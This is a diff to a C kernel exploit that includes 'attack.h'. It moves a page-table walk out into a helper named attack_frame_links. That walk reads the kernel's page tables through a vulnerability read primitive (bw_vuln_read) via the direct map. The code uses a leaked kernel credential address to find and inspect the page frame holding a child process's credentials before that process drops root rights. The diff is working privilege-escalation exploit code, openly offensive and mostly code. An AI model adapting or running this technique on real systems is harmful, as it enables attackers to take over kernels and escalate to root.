@@ -5,24 +5,7 @@
 
 #include "attack.h"
 
-enum { FRAME_BYTES = 16, FRAME_LINKS = 8, CREDENTIAL_BYTES = 32, LEVELS = 4 };
-
-static struct bw_leak leak;
-
-static uint64_t synonym_of(uint64_t pfn) { return leak.direct_map_base + pfn * BW_PAGE_SIZE; }
-
-/* The frame behind an address of the kernel's. */
-static uint64_t frame_behind(uint64_t address)
-{
-	uint64_t pfn = leak.kernel_root;
-
-	for (int level = LEVELS; level > 0; level--) {
-		uint64_t index = address >> (12 + 9 * (level - 1)) & 511;
-
-		pfn = (uint64_t)bw_vuln_read(synonym_of(pfn) + index * 8) >> 12 & 0xfffffffff;
-	}
-	return pfn;
-}
+enum { CREDENTIAL_BYTES = 32 };
 
 static _Noreturn void become_servant(long endpoint)
 {
@@ -36,6 +19,7 @@ static _Noreturn void become_servant(long endpoint)
 int main(void)
 {
 	struct bw_message message = { 0 };
+	struct bw_leak leak;
 	uint64_t links, before;
 	long endpoint, from;
 	pid_t child;
@@ -53,7 +37,7 @@ int main(void)
 
 	/* what the frame says of the pool's page that the child's credentials are in */
 	links = leak.credential + (uint64_t)((int64_t)(child - getpid()) * CREDENTIAL_BYTES);
-	links = leak.frames + frame_behind(links) * FRAME_BYTES + FRAME_LINKS;
+	links = attack_frame_links(&leak, links);
 	before = (uint64_t)bw_vuln_read(links);
 	attack_say("root's program %d is about to drop its rights; its frame says 0x%lx", child,
 		   before);
